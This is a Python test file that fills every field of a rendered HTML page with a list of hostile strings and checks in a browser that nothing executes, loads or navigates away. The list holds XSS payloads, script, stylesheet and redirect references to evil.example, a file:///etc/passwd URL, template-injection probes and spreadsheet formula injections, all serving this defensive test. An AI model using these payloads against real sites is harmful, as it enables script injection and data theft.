"""Hostile text in every field of everything: nothing runs, is asked for, or is said."""

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any, cast

import pytest
from talion.model.actor import Actor, ActorKind, Membership, Office
from talion.model.article import Article
from talion.model.claim import Basis, Claim, ClaimType
from talion.model.date import Date
from talion.model.incident import Incident, IncidentType, Report, Slot, Span, Status
from talion.render.page import write_page
from talion.render.page_data import PageChain, PageData, PageQuestion

HOSTILE = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</SCRIPT ><ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<!--<script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]></script><svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=background:url(https://evil.example/x)>",
    "<form action=https://evil.example><button>x</button></form>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://user:pass@evil.example/<script>",
    "http://[::1",
    "https://evil.example/\"onmouseover='alert(1)'",
    "{{ 7 * 7 }}",
    "{% include 'page.html' %}",
    "${alert(1)}",
    "{{ ''.__class__.__mro__ }}",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "null",
    "undefined",
    "NaN",
    "",
    " ",
    "\\",
    "\\u003cscript\\u003ealert(1)",
    '\\"; alert(1); //',
    "'; alert(1); //",
    "a|b\\|c\tactor:x#y&z=1?q",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;",
    "\u2028alert(1)\u2029",
    "null\x00byte",
    "bell\x07 escape\x1b[31m backspace\x08",
    "\u202egnp.tcidrev\u202c after an override",
    "\u2066isolate never closed",
    "\u200b\u200c\u200d\ufeffzero width",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "high \ud800 surrogate",
    "low \udfff surrogate",
    "\ud83d half an emoji",
    "\ufffe\uffff not characters",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇳🇱 families and flags",
    "W" * 20_000,
    "many words " * 2_000,
    "\n" * 500,
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "العربية עברית mixed with English",
    "ﷺ﷽",
    "İıſK",
)  # fmt: skip


def hostile(ids: bool) -> PageData:
    """A page with each hostile string in every field; in ids too on request."""

    def name(n: int, kind: str) -> str:
        return f"{kind}{n} {HOSTILE[n]}" if ids else f"{kind}{n}"

    span = range(len(HOSTILE))
    kinds = tuple(ActorKind)
    actors, incidents, reports, articles, claims, types = [], [], [], [], [], []
    date = Date("2018-03")
    for n in span:
        text = HOSTILE[n]
        member = Membership(name(n, "a"), name((n + 1) % len(HOSTILE), "a"))
        actors.append(
            Actor(
                name(n, "a"), text, kinds[n % 5], (text,), codes=(text[:2], "RU"),
                state=name((n + 2) % len(HOSTILE), "a"), memberships=(member,),
            )
        )  # fmt: skip
        types.append(IncidentType(name(n, "t"), text, text, 0.5, text, (text,)))
        article = Article(name(n, "x"), f"Before {text} after.", text, text, text, text)
        articles.append(article)
        quote = Span(text, 7, 7 + len(text))
        parties = (name(n, "a"),), (name((n + 1) % len(HOSTILE), "a"), name(n // 2, "a"))
        slots = (
            name(n, "t"),
            (Status.REPORTED, Status.ALLEGED, cast("Status", text))[n % 3],
            *parties,
            n,
            date,
        )
        reports.append(Report(name(n, "r"), article.id, *slots, quote))
        incidents.append(Incident(name(n, "i"), *slots, (name(n, "r"),), (Slot.COUNT, Slot.STATUS)))
        if n:
            ends = name(n, "i"), name(n - 1, "i")
            kind = (ClaimType.RESPONSE, ClaimType.PRECEDENT, cast("ClaimType", text))[n % 3]
            claims.append(Claim(name(n, "c"), kind, *ends, Basis.STATED, article.id, quote))
            claims.append(
                Claim(
                    name(n, "m"), ClaimType.RESPONSE, *ends, Basis.INFERRED, None, None, 0.5, text
                )
            )
    offices = tuple(Office(name(n, "a"), HOSTILE[n], name(0, "a"), "x", HOSTILE[n]) for n in span)
    chains = tuple(
        PageChain(name(n, "k"), HOSTILE[n], ((name(n, "i"),), (name((n + 1) % 9, "i"),)))
        for n in span
    )
    questions = tuple(
        PageQuestion(name(n, "q"), t, t, t, (t, t), ((t, t),)) for n, t in enumerate(HOSTILE)
    )
    return PageData(
        tuple(actors), tuple(incidents), tuple(reports), tuple(claims), tuple(articles),
        tuple(types), offices, chains, questions, HOSTILE[1],
    )  # fmt: skip


def test_there_are_at_least_sixty_hostile_strings() -> None:
    assert len(set(HOSTILE)) >= 60


def _whole(text: str) -> str:
    """The text without half characters, which no keyboard and no address can give."""
    return text.encode("utf-16", "replace").decode("utf-16")


def _states(data: PageData) -> list[dict[str, str]]:
    """Every incident, actor and question selected, some chains, each view, some filters."""
    states = [{"select": f"incident:{i.id}"} for i in data.incidents]
    states += [{"select": f"actor:{a.id}", "open": a.id} for a in data.actors[::3]]
    states += [{"select": f"question:{q.id}"} for q in data.questions[::3]]
    states += [{"chain": c.id} for c in data.chains[::8]]
    tables = ("incidents", "actors", "relations", "answers")
    states += [{"view": "table", "table": t} for t in tables]
    states += [{"view": "exchange", "sides": f"{data.actors[0].id}|{data.actors[1].id}"}]
    states += [{"words": t[:200], "actor": t[:200], "label": "flag"} for t in HOSTILE[::4]]
    return [{key: _whole(value) for key, value in state.items()} for state in states]


@pytest.mark.parametrize("ids", [False, True], ids=["in texts", "in ids too"])
def test_hostile_text_stays_text(ids: bool, visit: Callable[..., Any], tmp_path: Path) -> None:
    data = hostile(ids)
    path = write_page(tmp_path / "hostile.html", data)
    one = visit()
    page = one.open(path)
    scripts = page.evaluate("document.scripts.length")
    assert scripts == 4
    for state in _states(data):
        page.evaluate("(state) => { location.hash = new URLSearchParams(state) }", state)
    for text in HOSTILE[::6]:
        page.locator(".search input").fill(_whole(text[:300]))
        page.wait_for_timeout(20)
    page.wait_for_timeout(200)
    assert page.evaluate("document.scripts.length") == scripts
    assert page.locator("a:not([href='#']):not([href^='http'])").count() == 0
    assert page.locator("iframe, object, embed, img, base, form").count() == 0
    assert one.quiet(), (one.requests[:3], one.console[:3], one.dialogs)


def test_links_lead_only_to_web_pages(visit: Callable[..., Any], tmp_path: Path) -> None:
    data = hostile(ids=False)
    good = replace(data.articles[0], url="https://example.org/a?b=c")
    path = write_page(tmp_path / "links.html", replace(data, articles=(good, *data.articles[1:])))
    page = visit().open(path, "select=incident:i0")
    assert (
        page.locator(".report .source a")
        .get_attribute("href")
        .startswith("https://example.org/a?b=c#:~:text=")
    )
    for n, text in enumerate(HOSTILE):
        if text.startswith(("javascript:", "data:", "vbscript:", "file:", "blob:")):
            page.evaluate(f"location.hash = 'select=incident:i{n}'")
            page.wait_for_timeout(20)
            assert page.locator(".report .source a").count() == 0, text
